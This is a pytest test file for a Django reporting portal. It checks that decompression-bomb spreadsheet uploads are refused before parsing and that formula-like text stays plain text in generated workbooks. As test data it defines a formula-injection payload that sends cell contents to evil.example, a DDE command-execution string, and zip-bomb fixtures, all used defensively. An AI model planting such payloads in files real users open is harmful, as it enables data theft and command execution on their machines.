"""Uploads that must never hurt the portal or the people opening its files:

- decompression bombs (a small .xlsx that inflates to hundreds of MB) are refused from the
  zip's directory before any parser sees them; nothing is read, kept or stored;
- text a reporter typed that looks like a formula comes back as text in every workbook the
  portal writes (the template and the marked error copy), never as a live formula."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from submissions import ingest
from submissions.services import statistics_form_save, statistics_upload_import, task_report_draft_save
from tests.core.bombs import lying, zip_with

from .conftest import codes_of, fill, filled, snapshot, template_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
RISKY = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)"]


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def formulas_in(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if re.search(rb"<f[\s>/]", z.read(n)) and "worksheets/" in n]


def never_parsed(monkeypatch):
    def boom(*args, **kwargs):
        raise AssertionError("the bomb reached a parser")

    monkeypatch.setattr(ingest, "read_sheets", boom)
    monkeypatch.setattr(ingest, "xlsx_open", boom)
    monkeypatch.setattr("submissions.workbook.load_workbook", boom)


# --- 7. decompression bombs ------------------------------------------------------------------


@pytest.mark.parametrize("hide", [False, True], ids=["declared", "lying-directory"])
def test_a_workbook_bomb_is_refused_in_the_page_and_nothing_is_kept(
    login, upload_url, round_q1, kjj, monkeypatch, hide
):
    member = "xl/worksheets/sheet1.xml"  # the data sheet itself, inflated to 40 MB of zeros
    bomb = zip_with(filled(round_q1, kjj), member=member, megabytes=40)
    if hide:
        bomb = lying(bomb, member)
    assert len(bomb) < 200 * 1024
    never_parsed(monkeypatch)
    before = snapshot()
    response = login("reporter_wuhan_kjj").post(upload_url, {"file": SimpleUploadedFile("kjj.xlsx", bomb)})
    text = response.content.decode()
    assert response.status_code == 422
    assert "整份文件未导入" in text and "“kjj.xlsx”" in text and "未读取也未保存" in text
    assert ("实际大小与声明不符" if hide else "压缩比为") in text
    assert "marked.xlsx" not in text  # no marked copy: the file is not kept
    assert snapshot() == before


@override_settings(UPLOAD_MAX_UNCOMPRESSED_MB=1, UPLOAD_MAX_ZIP_RATIO=100000)
def test_the_total_size_limit_comes_from_settings(round_q1, kjj, kjj_user, monkeypatch):
    never_parsed(monkeypatch)
    before = snapshot()
    bomb = zip_with(filled(round_q1, kjj), member="xl/media/big.bin", megabytes=2)
    outcome = statistics_upload_import(
        round=round_q1, agency=kjj, filename="k.xlsx", data=bomb, user=kjj_user
    )
    assert outcome.status == "rejected" and "超过 1 MB 的上限" in str(outcome.errors[0])
    assert snapshot() == before and not outcome.token  # nothing kept for a marked copy


def test_an_ordinary_template_still_passes(round_q1, kjj, kjj_user):
    outcome = statistics_upload_import(
        round=round_q1, agency=kjj, filename="k.xlsx", data=filled(round_q1, kjj), user=kjj_user
    )
    assert outcome.accepted


# --- 8. formula injection in the workbooks the portal writes ---------------------------------


def test_reporter_text_comes_back_as_text_in_the_template(login, round_q1, kjj, kjj_user, wuhan):
    codes = codes_of(template_bytes(round_q1, kjj))
    statistics_form_save(
        round=round_q1,
        agency=kjj,
        values={f"{code}|": 10 for code in codes[:5]},
        notes={f"{code}|": text for code, text in zip(codes[:5], RISKY, strict=True)},
        user=kjj_user,
        confirm_warnings=True,
    )
    task = wuhan.tasks.get(number="二.3")
    task_report_draft_save(
        round=round_q1,
        agency=kjj,
        task=task,
        status="in_progress",
        work_done=DDE,
        problems="+1+1",
        next_steps="@SUM(A1:A9)",
        user=kjj_user,
    )
    response = login("reporter_wuhan_kjj").get(
        reverse("submissions:template_download", args=["wuhan-2017", round_q1.period, kjj.pk])
    )
    data = content(response)
    assert response.status_code == 200 and formulas_in(data) == []
    wb = load_workbook(io.BytesIO(data))
    notes = [wb["统计数据"].cell(row=4 + i, column=9) for i in range(5)]
    assert [c.value for c in notes] == RISKY
    assert all(c.data_type == "s" and c.quotePrefix for c in notes)
    tasks = wb["任务进展"]
    row = next(r for r in range(4, tasks.max_row + 1) if tasks.cell(row=r, column=3).value == "二.3")
    cells = [tasks.cell(row=row, column=c) for c in (7, 8, 9)]
    assert [c.value for c in cells] == [DDE, "+1+1", "@SUM(A1:A9)"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_formulas_in_an_upload_come_back_as_text_in_its_marked_copy(login, upload_url, round_q1, kjj):
    data = fill(filled(round_q1, kjj), cells={"H4": HYPERLINK, "I5": DDE, "H6": "约300"})
    assert formulas_in(data)  # the upload itself holds live formulas
    client = login("reporter_wuhan_kjj")
    before = snapshot()
    response = client.post(upload_url, {"file": SimpleUploadedFile("kjj.xlsx", data)})
    assert response.status_code == 422 and snapshot() == before
    marked_url = re.search(
        r'href="(/reporting/uploads/[^"]+/marked\.xlsx)"', response.content.decode()
    ).group(1)
    marked = content(client.get(marked_url))
    assert formulas_in(marked) == []
    ws = load_workbook(io.BytesIO(marked))["统计数据"]
    for ref, text in (("H4", HYPERLINK), ("I5", DDE)):
        assert ws[ref].value == text and ws[ref].data_type == "s" and ws[ref].quotePrefix, ref
    summary = load_workbook(io.BytesIO(marked))["错误清单"]
    assert all(c.data_type != "f" for row in summary.iter_rows() for c in row)


def test_formula_text_in_a_csv_comes_back_as_text_in_its_marked_copy(login, upload_url, round_q1, kjj):
    codes = codes_of(template_bytes(round_q1, kjj))
    header = ",".join(h for _k, h in ingest.STAT_COLUMNS)
    lines = [header, f'{round_q1.period},市科技局,{codes[0]},x,全市,件,,约300,"{DDE}"']
    lines.append(
        f'{round_q1.period},市科技局,{codes[1]},x,全市,件,,5,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"'
    )
    client = login("reporter_wuhan_kjj")
    response = client.post(upload_url, {"file": SimpleUploadedFile("kjj.csv", "\n".join(lines).encode())})
    assert response.status_code == 422
    marked_url = re.search(
        r'href="(/reporting/uploads/[^"]+/marked\.xlsx)"', response.content.decode()
    ).group(1)
    marked = content(client.get(marked_url))
    assert formulas_in(marked) == []
    ws = load_workbook(io.BytesIO(marked))[ingest.CSV_SHEET]
    assert ws["I2"].value == DDE and ws["I2"].quotePrefix
    assert ws["I3"].value == HYPERLINK and ws["I3"].quotePrefix
